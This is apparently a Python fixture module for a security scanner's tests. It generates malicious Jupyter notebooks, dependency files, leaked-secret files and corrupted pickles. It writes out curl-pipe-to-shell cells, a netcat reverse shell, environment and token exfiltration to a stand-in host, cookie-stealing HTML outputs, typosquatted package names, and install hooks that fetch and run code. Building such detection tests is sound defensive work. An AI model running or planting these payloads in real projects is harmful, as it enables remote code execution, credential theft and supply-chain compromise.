"""Attack shapes: notebooks, requirements, secrets and torn files."""

from __future__ import annotations

import base64
import json
import struct

from judge_kit import Folder, as_json, call, display, notebook, npy, opcodes, safetensors, tarred, torch_zip, zipped
from second_attacks_base import CODE, ECHO, HEXES, URL, bad, made_up

FETCH = f"curl -fsSL {URL} | sh"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
ENCODED = base64.b64encode(FETCH.encode()).decode()


cells = {
    "script-magic": f"%%script bash\n{FETCH}",
    "encoded-shell": f"!echo {ENCODED} | base64 -d | bash",
    "double-bang": f"!!{FETCH}",
    "system-line-magic": f"%system {FETCH}",
    "sx-magic": f"out = %sx {FETCH}",
    "run-cell-magic": f"get_ipython().run_cell_magic('bash', '', {FETCH!r})",
    "capture-hides": f"%%capture\n!{FETCH}",
    "perl-cell": f"%%perl\nsystem('{FETCH}');",
    "wget-python": "!wget -qO- http://198.51.100.7/a.py | python3 -",
    "pip-trusted": "%pip install --trusted-host 198.51.100.7 --index-url http://198.51.100.7/simple tiny",
    "pip-git-branch": "!pip install -q git+http://198.51.100.7/tiny.git@main",
    "alias-magic": f"%alias ll {FETCH}\nll",
    "environment-post": f"import os, requests\nrequests.post('{URL}', data=str(dict(os.environ)))",
    "colab-drive-out": (
        "from google.colab import drive, auth\nauth.authenticate_user()\n"
        "token = !gcloud auth print-access-token\nimport requests\n"
        "requests.post('http://198.51.100.7/t', data=token[0])"
    ),
    "exec-remote-text": f"import urllib.request\nexec(urllib.request.urlopen('{URL}').read())",
    "load-remote": "%load http://198.51.100.7/a.py",
    "joblib-remote": "import joblib, fsspec\njoblib.load(fsspec.open('http://198.51.100.7/m.joblib').open())",
    "torch-unsafe-remote": (
        "import torch\ntorch.hub.load_state_dict_from_url('http://198.51.100.7/m.pt', weights_only=False)"
    ),
    "shell-variable": f"cmd = {FETCH!r}\n!{{cmd}}",
    "ssh-key-append": "!echo 'ssh-ed25519 AAAA assay-second' >> ~/.ssh/authorized_keys",
    "startup-written": "%%writefile ~/.ipython/profile_default/startup/a.py\nimport os\nos.system('echo assay')",
    "powershell-cell": "!powershell -nop -w hidden -enc ZQBjAGgAbwAgAGEAcwBzAGEAeQA=",
    "netcat": "!rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 9 > /tmp/f",
}
outputs = {
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://198.51.100.7/a">',
    "script-link": "<a href=\"javascript:fetch('http://198.51.100.7/'+document.cookie)\">loss</a>",
    "form-post": (
        '<form action="http://198.51.100.7/a" method="post"><input name="token"><button>Log in to '
        "Jupyter</button></form>"
    ),
    "details-toggle": "<details open ontoggle=\"fetch('http://198.51.100.7/'+document.cookie)\">x</details>",
    "object-data": '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "script-split-lines": ["<scr", "ipt>fetch('http://198.51.100.7/'+document.cookie)</scr", "ipt>"],  # type: ignore[dict-item]
}
old = {
    "metadata": {"name": "old"},
    "nbformat": 3,
    "nbformat_minor": 0,
    "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": f"!{FETCH}", "outputs": []}]}],
}
lines = {
    "cell_type": "code",
    "execution_count": None,
    "metadata": {"jupyter": {"source_hidden": True}, "tags": ["hide"]},
    "outputs": [],
    "source": ["!cu", "rl -fsSL http://198.51.100.7/a ", "| s", "h"],
}
attached = {
    "cell_type": "markdown",
    "metadata": {},
    "source": "![a](attachment:a.svg)",
    "attachments": {
        "a.svg": {
            "image/svg+xml": base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'/>").decode()
        }
    },
}


def notebooks() -> dict[str, Folder]:
    """Notebooks whose cells, outputs or form do harm."""
    made: dict[str, Folder] = {
        f"notebook--{k}": {"train.ipynb": notebook("import numpy as np", v)} for k, v in cells.items()
    }
    for key, html in outputs.items():
        made[f"notebook--output-{key}"] = {"report.ipynb": notebook(("df", [display(text_html=html)]))}
    return made | {
        "notebook--version-3": {"old.ipynb": as_json(old)},
        "notebook--source-split": {"a.ipynb": notebook(lines)},
        "notebook--attachment-svg": {"a.ipynb": notebook(attached)},
        "notebook--percent-script": {
            "train.py": f"# %% [markdown]\n# Train\n# %%\nget_ipython().system({FETCH!r})\n".encode()
        },
        "notebook--quarto": {"report.qmd": f"---\ntitle: r\n---\n\n```{{bash}}\n{FETCH}\n```\n".encode()},
        "notebook--local-import": {
            "a.ipynb": notebook("import tiny_utils"),
            "tiny_utils.py": f"import os\n\nos.system({ECHO!r})\n".encode(),
        },
    }


lock = (
    (
        '[[package]]\nname = "torch"\nversion = "2.4.0"\n'
        'source = { registry = "http://198.51.100.7/simple" }\n'
        'wheels = [{ url = "http://198.51.100.7/torch-2.4.0-py3-none-any.whl", hash = "sha256:'
    )
    + "ab" * 32
    + '" }]\n'
)
poetry = (
    '[[package]]\nname = "numpy"\nversion = "1.26.4"\n\n[package.source]\ntype = "url"\n'
    'url = "http://198.51.100.7/numpy-1.26.4.tar.gz"\n'
)
npm = {
    "name": "space",
    "lockfileVersion": 3,
    "packages": {"node_modules/axios": {"version": "1.7.2", "resolved": "http://198.51.100.7/axios-1.7.2.tgz"}},
}
files = {
    "torchtriton": ("requirements.txt", "torch==1.13.1\ntorchtriton==2.0.0\n"),
    "known-malicious-deepseeek": ("requirements.txt", "openai==1.60.0\ndeepseeek==0.0.8\n"),
    "known-malicious-ultralytics": ("requirements.txt", "ultralytics==8.3.41\n"),
    "lookalike-hub": ("requirements.txt", "transformers==4.44.2\nhugginface-hub==0.24.6\n"),
    "lookalike-langchain": ("requirements.txt", "langchian==0.2.1\n"),
    "lookalike-openai": ("requirements.txt", "opneai==1.40.0\n"),
    "lookalike-pandas": ("requirements-dev.txt", "pandsa==2.2.2\n"),
    "lookalike-safetensors": ("requirements.txt", "safetensor==0.4.3\n"),
    "lookalike-sentence": ("requirements.txt", "sentence-transfomers==3.0.1\n"),
    "lookalike-matplotlib": ("requirements.in", "matplotlab==3.9.0\n"),
    "lookalike-lightgbm": (
        "environment.yml",
        "name: x\ndependencies:\n  - python=3.11\n  - pip:\n      - ligthgbm==4.5.0\n",
    ),
    "lookalike-in-lock": ("Pipfile", '[packages]\nnunpy = "==1.26.4"\n'),
    "remote-include": ("requirements.txt", "-r http://198.51.100.7/requirements.txt\n"),
    "remote-constraint": ("requirements.txt", "numpy\n-c http://198.51.100.7/c.txt\n"),
    "editable-branch": ("requirements.txt", "-e git+http://198.51.100.7/tiny.git@main#egg=tiny\n"),
    "file-address": ("requirements.txt", "tiny @ file:///tmp/tiny-1.0.tar.gz\n"),
    "line-continued-index": (
        "requirements.txt",
        "numpy==1.26.4\n--extra-\\\nindex-url http://198.51.100.7/simple\n",
    ),
    "index-by-variable": ("requirements.txt", "--index-url http://user:x@198.51.100.7/simple\nnumpy==1.26.4\n"),
    "uv-lock-other-host": ("uv.lock", 'version = 1\nrequires-python = ">=3.11"\n\n' + lock),
    "poetry-lock-address": ("poetry.lock", poetry),
    "npm-lock-other-host": ("package-lock.json", json.dumps(npm)),
    "npm-postinstall": ("package.json", json.dumps({"name": "space", "scripts": {"postinstall": FETCH}})),
    "npmrc-registry": (".npmrc", "registry=http://198.51.100.7/\nstrict-ssl=false\n"),
    "uv-toml-index": ("uv.toml", '[[index]]\nurl = "http://198.51.100.7/simple"\ndefault = true\n'),
    "conda-channel": (
        "environment.yml",
        "name: x\nchannels:\n  - http://198.51.100.7/conda\n  - defaults\ndependencies:\n  - numpy\n",
    ),
    "setup-cfg-links": (
        "setup.cfg",
        (
            "[options]\ninstall_requires = tiny\ndependency_links =\n"
            "    http://198.51.100.7/tiny-1.0.tar.gz#egg=tiny-1.0\n"
        ),
    ),
    "setup-runs": (
        "setup.py",
        (
            f"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n\n\n"
            f"class I(install):\n    def run(self):\n        os.system({FETCH!r})\n"
            f"        install.run(self)\n\n\nsetup(name='tiny', cmdclass={{'install': I}})\n"
        ),
    ),
    "build-hook": ("hatch_build.py", f"import os\n\nos.system({FETCH!r})\n"),
    "binder-post-build": ("binder/postBuild", f"#!/bin/bash\n{FETCH}\n"),
    "docker-index": (
        "Dockerfile",
        (
            "FROM python:3.11-slim\n"
            "RUN pip install --index-url http://198.51.100.7/simple --trusted-host 198.51.100.7 tiny\n"
        ),
    ),
}


def requirements() -> dict[str, Folder]:
    """Files that make an installer take somebody else's package."""
    made: dict[str, Folder] = {}
    for key, (path, text) in files.items():
        made[f"requirements--{key}"] = {path: text.encode()}
    made["requirements--build-hook"]["pyproject.toml"] = (
        b'[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
        b"[tool.hatch.build.hooks.custom]\n"
    )
    return made


key = made_up("ssh", 64 * 5, ALPHABET)
block = "\n".join(key[i : i + 64] for i in range(0, 320, 64))
private = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{block}\n-----END OPENSSH PRIVATE KEY-----\n"
token = f"hf_{made_up('hf', 34)}"
arguments = torch_zip(b"\x80\x02" + opcodes({"output_dir": "out", "hub_token": token, "seed": 42}) + b".")
state = {
    "version": 4,
    "resources": [
        {
            "type": "aws_iam_access_key",
            "instances": [
                {
                    "attributes": {
                        "id": "AKIA" + made_up("a", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
                        "secret": made_up("b", 40),
                    }
                }
            ],
        }
    ],
}
leaks = {
    "netrc": (".netrc", f"machine api.wandb.ai\n  login user\n  password {made_up('w', 40, HEXES)}\n"),
    "pypirc": (".pypirc", f"[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmc{made_up('p', 150)}\n"),
    "kubeconfig": (
        "kubeconfig.yaml",
        (
            f"apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n"
            f"    token: eyJhbGciOiJSUzI1NiJ9.{made_up('k', 90)}.{made_up('s', 86)}\n"
        ),
    ),
    "terraform-state": ("terraform.tfstate", json.dumps(state)),
    "docker-auth": (
        ".docker/config.json",
        json.dumps({"auths": {"ghcr.io": {"auth": base64.b64encode(f"bot:ghp_{made_up('g', 36)}".encode()).decode()}}}),
    ),
    "npmrc-token": (".npmrc", f"//registry.npmjs.org/:_authToken=npm_{made_up('n', 36)}\n"),
    "stripe": ("billing.yaml", f"stripe_key: sk_live_{made_up('st', 24)}\n"),
    "sendgrid": ("alerts.py", f"KEY = 'SG.{made_up('sg', 22)}.{made_up('sh', 43)}'\n"),
    "azure-storage": (
        "config.ini",
        (
            f"[blob]\n"
            f"connection = DefaultEndpointsProtocol=https;AccountName=models;"
            f"AccountKey={made_up('az', 86)}==;EndpointSuffix=core.windows.net\n"
        ),
    ),
    "github-fine": ("deploy.sh", f"export GH_TOKEN=github_pat_{made_up('gf', 22)}_{made_up('gg', 59)}\n"),
    "databricks": (
        ".databrickscfg",
        f"[DEFAULT]\nhost = https://adb-1.azuredatabricks.net\ntoken = dapi{made_up('db', 32, HEXES)}\n",
    ),
    "groq": ("llm.toml", f'api_key = "gsk_{made_up("gr", 52)}"\n'),
    "replicate": ("predict.py", f"import os\n\nos.environ['REPLICATE_API_TOKEN'] = 'r8_{made_up('r8', 37)}'\n"),
    "langsmith": (
        "settings.env",
        f"LANGSMITH_API_KEY=lsv2_pt_{made_up('ls', 32, HEXES)}_{made_up('lt', 10, HEXES)}\n",
    ),
    "openrouter": ("agent.json", json.dumps({"model": "x", "apiKey": f"sk-or-v1-{made_up('or', 64, HEXES)}"})),
    "nvidia": ("nim.yaml", f"NVIDIA_API_KEY: nvapi-{made_up('nv', 64)}\n"),
    "telegram": ("bot.py", f"TOKEN = '7{made_up('t', 9, '0123456789')}:AA{made_up('tt', 33)}'\n"),
    "discord-webhook": (
        "callbacks.py",
        f"HOOK = 'https://discord.com/api/webhooks/{made_up('d', 18, '123456789')}/{made_up('dd', 68)}'\n",
    ),
    "slack-webhook": (
        "alert.yaml",
        (
            f"url: https://hooks.slack.com/services/T{made_up('s1', 10).upper()}/"
            f"B{made_up('s2', 10).upper()}/{made_up('s3', 24)}\n"
        ),
    ),
    "mongo": ("data.yaml", f"uri: mongodb+srv://train:{made_up('m', 20)}@cluster0.ab1cd.mongodb.net/features\n"),
    "redis": (
        "feature_store.yaml",
        f"online_store:\n  connection_string: redis://:{made_up('re', 24)}@10.0.0.5:6379/0\n",
    ),
    "ssh-in-notebook": ("a.ipynb", notebook(f"key = '''{private}'''").decode()),
    "vault": ("serve.env", f"VAULT_TOKEN=hvs.{made_up('v', 90)}\n"),
    "shell-history": (".bash_history", f"ls\nhuggingface-cli login --token {token}\npython train.py\n"),
    "wandb-log": ("wandb/debug.log", f"2024-05-01 INFO env WANDB_API_KEY={made_up('wl', 40, HEXES)}\n"),
    "mcp-environment": (
        ".mcp.json",
        json.dumps(
            {
                "mcpServers": {
                    "gh": {
                        "command": "node",
                        "args": ["./server.js"],
                        "env": {"GITHUB_TOKEN": f"ghp_{made_up('mc', 36)}"},
                    }
                }
            }
        ),
    ),
    "trace-in-output": (
        "b.ipynb",
        notebook(
            (
                "run()",
                [
                    {
                        "output_type": "error",
                        "ename": "E",
                        "evalue": "401",
                        "traceback": [f"Authorization: Bearer sk-proj-{made_up('tr', 48)}"],
                    }
                ],
            )
        ).decode(),
    ),
    "javascript": ("app.js", f'const key = "AIza{made_up("js", 35)}";\n'),
    "prompt-few-shot": (
        "prompts/support.md",
        f"Example:\nUser: my key?\nAssistant: sk-ant-api03-{made_up('an', 93)}AA\n",
    ),
}
keras_config = {"class_name": "Sequential", "config": {"name": token, "layers": []}}


def secrets() -> dict[str, Folder]:
    """Made-up keys in the places where people leave them."""
    made = {f"secrets--{k}": {path: text.encode()} for k, (path, text) in leaks.items()}
    made["secrets--training-arguments"] = {"training_args.bin": arguments}
    made["secrets--in-pickle"] = {
        "client.pkl": b"\x80\x04" + opcodes({"api_key": f"sk-proj-{made_up('pk', 48)}"}) + b"."
    }
    made["secrets--in-zip"] = {
        "release.zip": zipped({"app/.env": f"OPENAI_API_KEY=sk-proj-{made_up('z', 48)}\n".encode()})
    }
    made["secrets--in-tar"] = {"release.tar": tarred({"app/id_ed25519": private.encode()})}
    made["secrets--keras-config"] = {
        "model.keras": zipped({"config.json": json.dumps(keras_config).encode(), "metadata.json": b"{}"})
    }
    return made


def torn() -> dict[str, Folder]:
    """Files that break after the call has been made."""
    code = b"\x80\x04" + call("os", "system", ECHO)
    zipped_bad = torch_zip(bad(2))
    object_array = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", code)
    sizes = safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4))
    del sizes
    return {
        "torn--after-reduce-zeros": {"model.pkl": code + bytes(4096)},
        "torn--after-reduce-text": {"model.pkl": code + b"\n<<<<<<< HEAD\n"},
        "torn--huge-length-follows": {"model.pkl": code + b"\x8e" + struct.pack("<Q", 1 << 50)},
        "torn--negative-length": {"model.pkl": code + b"T" + struct.pack("<i", -5)},
        "torn--pop-too-many": {"model.pkl": code + b"0000."},
        "torn--build-on-none": {"model.pkl": code + b"Nb."},
        "torn--missing-module-after": {"model.pkl": code + b"cno_such_module\nX\n."},
        "torn--persistent-without-loader": {"model.pkl": code + b"Pweights\n."},
        "torn--extension-unknown": {"model.pkl": code + b"\x82\xf0."},
        "torn--protocol-9-second": {"model.pkl": code + b"\x80\x09."},
        "torn--object-array-cut": {"data.npy": object_array[:-1]},
        "torn--zip-central-cut": {"model.pt": zipped_bad[: zipped_bad.rindex(b"PK\x05\x06") + 10]},
        "torn--zip-end-garbage": {"model.pt": zipped_bad + b"\0" * 100},
        "torn--legacy-second-cut": {"model.pth": b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03." + code},
        "torn--tar-cut": {"model.tar": tarred({"model.pkl": bad(2), "w": bytes(9000)})[:1200]},
        "torn--joblib-array-cut": {"model.joblib": code + b"0cnumpy.core.multiarray\n_recon"},
        "torn--string-not-closed": {"model.pkl": b"cos\nsystem\n(S'" + ECHO.encode() + b"'\ntRS'abc\n."},
        "torn--bad-integer": {"model.pkl": code + b"Iabc\n."},
        "torn--notebook-cut": {"a.ipynb": notebook(f"!{FETCH}")[:-60]},
        "torn--config-trailing": {
            "config.yaml": f"model:\n  _target_: os.system\n  command: {ECHO}\n  x: [1,\n".encode()
        },
        "torn--source-later-error": {
            "handler.py": f"import os\n\nos.system({CODE!r})\n".encode(),
            "__init__.py": b"x = (\n",
        },
    }


def shapes() -> dict[str, Folder]:
    """The notebooks, requirements, secrets and torn files."""
    return notebooks() | requirements() | secrets() | torn()
